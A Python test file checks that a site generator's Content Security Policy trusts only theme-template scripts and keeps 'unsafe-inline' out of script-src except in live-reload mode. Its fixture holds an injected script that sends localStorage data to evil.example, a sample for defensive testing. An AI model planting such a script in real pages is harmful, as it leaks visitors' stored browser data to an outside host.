"""The policy trusts only the scripts the theme's templates wrote, never one from content."""

from __future__ import annotations

from generator import csp

THEME = "<script>var __md_scope=1</script>"
CONTENT = "<article><script>fetch('https://evil.example/'+localStorage.x)</script></article>"


def test_a_script_that_came_with_the_content_is_not_trusted() -> None:
    page = f"<html><head>{THEME}</head><body>{CONTENT}</body></html>"
    trusted = csp.template_script_hashes(page, CONTENT)
    assert trusted == csp.template_script_hashes(THEME)
    assert len(trusted) == 1
    script_src = csp.policy(trusted).split("script-src")[1].split(";")[0]
    assert "'unsafe-inline'" not in script_src  # (styles may be inline; scripts never)


def test_live_reload_policy_is_for_serve_only() -> None:
    strict = csp.policy({"'sha256-abc'"})
    assert "'sha256-abc'" in strict and "'unsafe-inline'" not in strict.split("script-src")[1].split(";")[0]
    dev = csp.policy({"'sha256-abc'"}, live_reload=True)
    assert "'unsafe-inline'" in dev and "'sha256-abc'" not in dev
